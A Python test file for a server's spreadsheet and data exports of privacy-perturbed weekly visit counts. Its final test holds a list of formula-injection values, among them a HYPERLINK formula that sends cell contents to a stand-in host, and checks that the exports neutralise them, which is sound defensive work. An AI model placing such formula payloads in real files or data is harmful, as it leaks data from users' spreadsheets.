"""The server's exports: the desktop's formats, filled with published (perturbed) tables, readable in Excel."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from app import exports as desktop
from app.codes import REPORT_DIMENSIONS
from app.sync.wire import ReportCounts
from server.exports import export_filename, weekly_export
from server.suppression import Contribution, PublishedReport, new_cell_key, publish

EAST, WEST = "Itäkeskus", "Kannelmäki"


def contribution(site: str, week: str, visits: int, device: str = "d1", **counts: dict[str, int]) -> Contribution:
    body = ReportCounts(visits=visits, participants=visits, counts=counts)
    return Contribution(device, site, "East", week, new_cell_key(), body)


REPORTS = [
    contribution(
        EAST,
        "2026-W41",
        23,
        contact={"walk-in": 20, "phone": 3},
        topic={"housing": 12, "health": 2},
        weekday={"mon": 10, "tue": 13},
    ),
    contribution(EAST, "2026-W40", 3, contact={"walk-in": 3}, topic={"housing": 3}),
    contribution(WEST, "2026-W40", 9, contact={"walk-in": 6, "phone": 3}, topic={"housing": 9}),
]


def row(period: str, place: str, visits: int | str, **counts: dict[str, int | str]) -> PublishedReport:
    return PublishedReport(period=period, place=place, threshold=5, visits=visits, participants=visits, counts=counts)


TABLE = [
    row("2026-W40", EAST, "<5", contact={"walk-in": "<5"}),
    row("2026-W41", EAST, 24, contact={"walk-in": 21, "phone": "<5"}, topic={"housing": 12, "health": 0}),
]


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def test_csv_is_the_desktop_long_format_with_marks_in_the_count_column() -> None:
    rows = csv_rows(weekly_export(TABLE, "csv", 5, "2026-W40", "2026-W41"))
    assert list(rows[0]) == list(desktop.CSV_HEADER)
    assert [(row["week"], row["site"], row["value"], row["count"]) for row in rows] == [
        ("2026-W40", EAST, "visits", "<5"),
        ("2026-W40", EAST, "participants", "<5"),
        ("2026-W40", EAST, "walk-in", "<5"),
        ("2026-W41", EAST, "visits", "24"),
        ("2026-W41", EAST, "participants", "24"),
        ("2026-W41", EAST, "housing", "12"),
        ("2026-W41", EAST, "walk-in", "21"),
        ("2026-W41", EAST, "phone", "<5"),
    ]


def test_no_published_number_is_a_small_count_and_none_is_a_true_count_by_construction() -> None:
    table = publish(REPORTS, 5)
    assert [(report.period, report.place) for report in table] == [
        ("2026-W40", EAST),
        ("2026-W40", WEST),
        ("2026-W41", EAST),
    ]
    for report in table:
        values = [report.visits, report.participants, *(v for d in report.counts.values() for v in d.values())]
        assert not any(isinstance(value, int) and 0 < value < 5 for value in values)
    assert publish(REPORTS, 5) == table  # the same reports always publish the same numbers


def test_marked_rows_come_after_shown_ones_so_their_order_says_nothing() -> None:
    table = [row("2026-W40", EAST, 40, age_band={"18-24": "<5", "30-64": 30, "under-18": "<5", "25-29": 6})]
    rows = csv_rows(weekly_export(table, "csv", 5, "2026-W40", "2026-W40"))
    assert [(row["value"], row["count"]) for row in rows if row["dimension"] == "age_band"] == [
        ("30-64", "30"),
        ("25-29", "6"),
        ("under-18", "<5"),
        ("18-24", "<5"),
    ], "marked cells in code-list order"


def test_json_states_the_method_and_its_error() -> None:
    document = json.loads(weekly_export(TABLE, "json", 5, "2026-W40", "2026-W41"))
    rules = document["disclosure_control"]
    assert (document["from"], document["to"], rules["threshold"], rules["method"]) == (
        "2026-W40",
        "2026-W41",
        5,
        "perturbation",
    )
    assert set(rules["marks"]) == {"<5"} and rules["noise_std_per_report"] == pytest.approx(2.0)
    first, last = document["reports"]
    assert (first["week"], first["site"], first["visits"]) == ("2026-W40", EAST, "<5")
    assert last["counts"]["contact"] == {"walk-in": 21, "phone": "<5"}


def test_xlsx_has_a_readable_sheet_per_dimension_with_marks_and_notes() -> None:
    book = load_workbook(io.BytesIO(weekly_export(TABLE, "xlsx", 5, "2026-W40", "2026-W41")))
    assert book.sheetnames == ["total", *REPORT_DIMENSIONS]
    totals = list(book["total"].iter_rows(min_row=2, max_row=3, values_only=True))
    assert totals == [("2026-W40", EAST, "<5", "<5"), ("2026-W41", EAST, 24, 24)]
    contact = [row for row in book["contact"].iter_rows(min_row=3, values_only=True) if row[0] == "2026-W41"]
    assert [(row[2], row[-1]) for row in contact] == [("walk-in", 21), ("phone", "<5")]
    assert contact[1][3:6] == ("Puhelin", "Telefon", "Phone")
    for sheet in book.worksheets:
        notes = [row[0] for row in sheet.iter_rows(values_only=True) if row[0] and "±4·√r" in str(row[0])]
        assert len(notes) == 3, f"sheet {sheet.title} states the error in fi, sv and en"


def test_xlsx_labels_referred_services_with_the_names_given() -> None:
    code = "hsds:9441d2e6-a0d6-56b3-a7f1-9adacc7ab828"
    table = [row("2026-W40", EAST, 10, referral_service={code: 7})]
    names = {code: {"fi": "Kela Itäkeskus", "sv": "FPA Östra centrum", "en": "Kela East Centre"}}
    book = load_workbook(io.BytesIO(weekly_export(table, "xlsx", 5, "2026-W40", "2026-W40", names)))
    [line] = list(book["referral_service"].iter_rows(min_row=3, max_row=3, values_only=True))
    assert line == ("2026-W40", EAST, code, "Kela Itäkeskus", "FPA Östra centrum", "Kela East Centre", 7)


def test_an_empty_range_still_gives_a_file() -> None:
    assert csv_rows(weekly_export([], "csv", 5, "2026-W40", "2026-W41")) == []
    assert json.loads(weekly_export([], "json", 5, "2026-W40", "2026-W41"))["reports"] == []
    assert load_workbook(io.BytesIO(weekly_export([], "xlsx", 5, "2026-W40", "2026-W41"))).sheetnames[0] == "total"


@pytest.mark.parametrize(("fmt", "threshold"), [("pdf", 5), ("csv", 0), ("csv", 2)])
def test_unknown_format_or_useless_threshold_is_refused(fmt: str, threshold: int) -> None:
    with pytest.raises(ValueError):
        weekly_export(TABLE, fmt, threshold, "2026-W40", "2026-W41")


def test_file_name_names_the_range_and_scope() -> None:
    assert export_filename("2026-W40", "2026-W47", "csv") == "neuvo-weekly-2026-W40-2026-W47.csv"
    assert export_filename("2026-W40", "2026-W47", "xlsx", combined=True) == "neuvo-weekly-2026-W40-2026-W47-all.xlsx"
    assert export_filename("2026-W40", "2026-W47", "json", site="Itäkeskus 2") == (
        "neuvo-weekly-2026-W40-2026-W47-itakeskus-2.json"
    )
    assert export_filename("2026-W40", "2026-W47", "csv", grouping="team", period="month") == (
        "neuvo-monthly-2026-W40-2026-W47-team.csv"
    )


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Puhos")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1", " =1"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_site_or_service_name_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(name: str) -> None:
    code = "hsds:9441d2e6-a0d6-56b3-a7f1-9adacc7ab828"
    table = [row("2026-W40", name, 10, referral_service={code: 7})]
    names = {code: {"fi": name, "sv": name, "en": name}}
    book = load_workbook(io.BytesIO(weekly_export(table, "xlsx", 5, "2026-W40", "2026-W40", names)))
    formulas = [
        cell.coordinate for sheet in book for line in sheet.iter_rows() for cell in line if cell.data_type == "f"
    ]
    assert formulas == []
    assert book["total"]["B2"].value == name and book["total"]["B2"].data_type == "s"
    assert book["referral_service"]["D3"].value == name
    rows = csv_rows(weekly_export(table, "csv", 5, "2026-W40", "2026-W40"))
    assert {line["site"] for line in rows} == {"'" + name}  # OWASP: a leading apostrophe, the name kept after it
